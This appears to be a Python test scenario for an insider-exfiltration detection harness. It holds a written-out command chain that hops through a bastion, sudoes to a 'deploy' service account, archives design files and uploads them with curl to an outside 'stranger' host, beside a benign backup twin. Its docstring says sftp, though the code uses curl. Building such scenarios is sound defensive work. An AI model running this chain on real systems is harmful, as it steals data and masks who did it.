"""Three hops with a service account on the way, and the loot fetched by sftp: one person behind all of it."""

from __future__ import annotations

from ..props import DESIGN_BYTES, designs
from ..scenario import BACKUP, EVERYTHING, STRANGER, Person, Prepared, Scenario, Step, Truth

_DEPLOY = "id deploy 2>/dev/null || useradd --create-home --shell /bin/bash deploy"
_PACK = "tar czf /tmp/release.tgz -C /srv designs"
_SEND = "curl -sS --noproxy '*' -T /tmp/release.tgz http://{server}:8080/r.tgz"

SCENARIO = Scenario(
    number=25,
    title="laptop to bastion to app, sudo to a service account, an upload",
    people=(Person("alice", ("bastion", "app"), EVERYTHING), Person("amy", ("bastion", "app"), EVERYTHING)),
    prepared=(designs("app"), Prepared("app", _DEPLOY)),
    steps=(
        Step(
            "alice",
            f'ssh alice@bastion "ssh alice@app \\"sudo -u deploy {_PACK} && '
            f'sudo -u deploy {_SEND.format(server=STRANGER)}\\""',
        ),
    ),
    twin_title="the daily way over the bastion, and a release to the backup host",
    twin=(
        Step(
            "amy",
            'ssh amy@bastion "ssh amy@app \\"sudo -u deploy tar czf /tmp/daily.tgz -C /srv designs && '
            f'sudo -u deploy {_SEND.format(server=BACKUP).replace("release", "daily")}\\""',
        ),
    ),
    truth=Truth("alice", ("bastion", "app"), ("upload-new-destination",), DESIGN_BYTES, STRANGER),
)
